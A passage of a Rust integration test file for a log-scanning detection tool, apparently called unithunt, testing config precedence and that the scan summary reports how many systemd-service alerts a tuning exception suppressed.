            c,
            "scan",
            "-o",
            "csv",
            "examples/atomic-tests.ecs.ndjson",
        ],
        "",
    );
    assert!(
        String::from_utf8_lossy(&o.stdout).starts_with("timestamp,"),
        "the command line wins"
    );
    std::fs::write(&cfg, "[scan]\nbogus = 1\n").unwrap();
    let o = unithunt(&["--config", c, "scan", "x"], "");
    assert_eq!(o.status.code(), Some(2));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("--bogus") && err.contains("config.toml"),
        "{err}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// Issue 19, item 14: the summary says how many matches the tuning kept quiet, exactly the
/// alerts it removed (ECS input and raw audit logs, whose converter screens events first).
#[test]
fn the_summary_says_what_the_tuning_kept_quiet() {
    let dir = std::env::temp_dir().join(format!("unithunt-tuned-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let tuning = dir.join("tuning.toml");
    std::fs::write(
        &tuning,
        "[[exception]]\nname = \"root on the lab\"\nrule_id = [\"9f1c5a7e-3b7d-4a52-9d1e-5e2c1f0a7b01\"]\n[[exception.entries]]\nfield = \"user.name\"\ntype = \"match\"\nvalue = \"root\"\n",
    )
    .unwrap();
    let seed = |args: &[&str]| -> (usize, Option<usize>) {
        let o = unithunt(args, "");
        let err = String::from_utf8_lossy(&o.stderr).into_owned();
        let alerts = lines(&o)
            .iter()
            .filter(|d| d["kibana.alert.rule.name"] == "Detect Systemd Service")
            .count();
        let quiet = err
            .lines()
            .find(|l| l.ends_with("kept quiet by the tuning: Detect Systemd Service"))
            .map(|l| l.split_whitespace().next().unwrap().parse().unwrap());
        (alerts, quiet)
    };
    for input in [
        "examples/atomic-tests.ecs.ndjson",
        "examples/atomic/dev-enriched.log",
    ] {
        let (all, none) = seed(&["scan", "-o", "ndjson", input]);
        assert_eq!(none, None, "no tuning, nothing said");
        let (left, quiet) = seed(&[
            "scan",
            "-o",
            "ndjson",
            "--tuning",
            tuning.to_str().unwrap(),
            input,
        ]);
        let quiet = quiet.expect("the count is said");
        assert!(quiet > 0, "{input}");
        assert_eq!(left + quiet, all, "{input}: {left} + {quiet} != {all}");
    }
    let _ = std::fs::remove_dir_all(&dir);
}
